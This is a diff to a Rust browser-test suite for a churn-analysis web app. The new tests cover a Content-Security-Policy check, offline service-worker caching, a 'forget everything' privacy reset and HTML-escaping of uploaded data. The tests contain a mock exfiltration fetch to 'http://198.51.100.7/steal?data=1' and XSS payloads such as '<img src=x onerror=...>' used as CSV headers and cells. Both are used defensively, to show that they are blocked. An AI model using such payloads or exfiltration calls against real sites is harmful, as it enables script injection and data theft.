@@ -66,6 +66,13 @@ impl Session {
                 "the page asked its server for {path}, which is not one of the app's files"
             );
         }
+        // The Content-Security-Policy blocked nothing: the app needs nothing it forbids.
+        let console = console_messages(&self.client).await;
+        let violations: Vec<&String> = console
+            .iter()
+            .filter(|m| m.contains("Content Security Policy") || m.contains("Refused to"))
+            .collect();
+        assert!(violations.is_empty(), "CSP violations: {violations:?}");
         urls
     }
 
@@ -1192,4 +1199,213 @@ async fn choose_models(c: &Client, keys: &[&str]) {
 /// Picks one model.
 async fn choose_model(c: &Client, value: &str) {
     choose_models(c, &[value]).await;
+}
+
+/// Every file of the built site but the service worker itself: what it keeps a copy of
+/// (scripts/precache.sh lists the same).
+fn site_files(dir: &std::path::Path) -> usize {
+    std::fs::read_dir(dir)
+        .expect("dist")
+        .flatten()
+        .map(|e| {
+            let path = e.path();
+            if path.is_dir() {
+                site_files(&path)
+            } else {
+                let name = e.file_name().to_string_lossy().to_string();
+                usize::from(name != "sw.js" && !name.ends_with(".d.ts"))
+            }
+        })
+        .sum()
+}
+
+#[tokio::test]
+#[ignore = "needs the built site and chromedriver: run scripts/test.sh"]
+async fn works_offline_after_the_first_visit_and_forgets_on_request() {
+    let s = open_app().await;
+    let c = &s.client;
+    // First visit: the service worker installs and keeps a copy of every file of the site.
+    let active = c
+        .execute(
+            "return navigator.serviceWorker.ready.then(r => !!r.active);",
+            vec![],
+        )
+        .await
+        .expect("service worker");
+    assert_eq!(active, true);
+    let expected = site_files(&s.server.root);
+    wait_for(
+        c,
+        "the offline copy",
+        "return caches.keys().then(async ks => ks.length === 1 ? (await (await caches.open(ks[0])).keys()).length : 0);",
+        |v| v.as_u64() == Some(expected as u64),
+    )
+    .await;
+    // The Content-Security-Policy is in force: an injected inline script does not run and a
+    // request to another address is refused by the browser before it is sent.
+    let csp = c
+        .execute(
+            r#"const meta = document.querySelector('meta[http-equiv=Content-Security-Policy]').content;
+               const s = document.createElement('script'); s.textContent = 'window.__inline = 1';
+               document.head.append(s);
+               return fetch('http://198.51.100.7/steal?data=1').then(() => 'sent', e => 'refused: ' + e.message)
+                 .then(r => [meta, typeof window.__inline, r]);"#,
+            vec![],
+        )
+        .await
+        .expect("probe the CSP");
+    eprintln!("CSP probe: {csp}");
+    let meta = csp[0].as_str().expect("meta");
+    assert!(
+        meta.contains("script-src 'self' 'wasm-unsafe-eval';")
+            && meta.contains("connect-src 'self';"),
+        "{meta}"
+    );
+    assert_eq!(csp[1], "undefined", "the inline script was blocked");
+    assert!(
+        csp[2].as_str().is_some_and(|r| r.starts_with("refused")),
+        "{csp}"
+    );
+    // The network goes away: the server answers nothing from here on.
+    s.server
+        .offline
+        .store(true, std::sync::atomic::Ordering::SeqCst);
+    let served_before = s.server.requests.lock().expect("log").len();
+    c.goto(&format!("{}/", s.server.origin))
+        .await
+        .expect("reload offline");
+    click(c, "sample-button").await;
+    assert_eq!(text_of(c, "row-count").await, "5000");
+    click(c, "train-button").await;
+    let auc = number(c, "metric-roc-auc").await;
+    assert!(auc > 0.5, "trained offline: ROC AUC {auc}");
+    let controlled = c
+        .execute(
+            "return navigator.serviceWorker.controller !== null;",
+            vec![],
+        )
+        .await
+        .expect("controller");
+    assert_eq!(
+        controlled, true,
+        "the page was answered by the service worker"
+    );
+    assert_eq!(
+        s.server.requests.lock().expect("log").len(),
+        served_before,
+        "nothing was served after going offline"
+    );
+    let dropped = s.server.dropped.lock().expect("log").clone();
+    eprintln!("requests while offline (unanswered): {dropped:?}");
+    assert!(
+        dropped.iter().all(|r| r.contains("/sw.js")),
+        "only the service worker's update check may try the network: {dropped:?}"
+    );
+    screenshot(c, "12-offline-trained.png").await;
+    // Forget everything: the copy of the app and the service worker are removed.
+    c.execute(
+        "document.querySelector('[data-testid=privacy-panel]').open = true; return true;",
+        vec![],
+    )
+    .await
+    .expect("open the privacy panel");
+    screenshot_of(c, "privacy-panel", "13-privacy-panel.png").await;
+    click(c, "forget-everything").await;
+    let result = text_of(c, "forget-result").await;
+    assert!(
+        result.contains("1 cached copy(ies) of the app and 1 service worker(s) removed"),
+        "{result}"
+    );
+    let left = c
+        .execute(
+            "return Promise.all([caches.keys(), navigator.serviceWorker.getRegistrations()]).then(([k, r]) => [k.length, r.length]);",
+            vec![],
+        )
+        .await
+        .expect("what is left");
+    assert_eq!(left, serde_json::json!([0, 0]));
+    s.server
+        .offline
+        .store(false, std::sync::atomic::Ordering::SeqCst);
+    s.close().await;
+}
+
+#[tokio::test]
+#[ignore = "needs the built site and chromedriver: run scripts/test.sh"]
+async fn hostile_column_names_and_cells_stay_text() {
+    // A header and cells that would run script if the page ever put them into HTML.
+    let evil_column = "<img src=x onerror=window.__xss=1>";
+    let evil_level = "<img src=x onerror=window.__xss=2>";
+    let mut csv = format!("customer_id,{evil_column},plan,spend,churn\n");
+    for i in 0..120 {
+        let plan = match i % 3 {
+            0 => evil_level,
+            1 => "<b>bold</b>",
+            _ => "basic",
+        };
+        let churn = if (i * 7) % 5 < 2 { "yes" } else { "no" };
+        csv.push_str(&format!(
+            "c{i},{},{plan},{},{churn}\n",
+            i % 17,
+            (i * 13) % 50
+        ));
+    }
+    let path = std::env::temp_dir().join(format!("churnscope-hostile-{}.csv", std::process::id()));
+    std::fs::write(&path, csv).expect("write the file");
+    let s = open_app().await;
+    let c = &s.client;
+    upload(c, &path).await;
+    assert_eq!(text_of(c, "row-count").await, "120");
+    let names = c
+        .execute(
+            "return [...document.querySelectorAll('[data-testid=column-row]')].map(r => r.children[0].textContent);",
+            vec![],
+        )
+        .await
+        .expect("column names");
+    assert!(
+        names
+            .as_array()
+            .is_some_and(|a| a.iter().any(|n| n == evil_column)),
+        "the header is shown as the text it is: {names}"
+    );
+    // Its profile lists the hostile level as text too.
+    c.execute(
+        r#"[...document.querySelectorAll('[data-testid=profile-link]')]
+             .find(b => b.textContent === 'plan').click(); return true;"#,
+        vec![],
+    )
+    .await
+    .expect("open the plan profile");
+    wait_for(
+        c,
+        "the plan profile",
+        "return [...document.querySelectorAll('[data-testid=profile-bar]')].map(r => r.children[0].textContent);",
+        |v| v.as_array().is_some_and(|a| a.iter().any(|l| l == evil_level)),
+    )
+    .await;
+    click(c, "train-button").await;
+    wait_for(
+        c,
+        "the riskiest customers with their reasons",
+        "return document.querySelectorAll('[data-testid=risky-row]').length;",
+        |v| v.as_u64().is_some_and(|n| n > 0),
+    )
+    .await;
+    let page = c
+        .execute(
+            "return [typeof window.__xss, document.querySelectorAll('img').length, document.querySelectorAll('b').length, document.body.textContent.includes('<b>bold</b>') || document.body.textContent.includes('<img src=x')];",
+            vec![],
+        )
+        .await
+        .expect("inspect the page");
+    assert_eq!(
+        page,
+        serde_json::json!(["undefined", 0, 0, true]),
+        "no script ran, no element was made from the data, and it reads as text"
+    );
+    screenshot(c, "14-hostile-content.png").await;
+    let _ = std::fs::remove_file(&path);
+    s.audit_network().await;
+    s.close().await;
 }
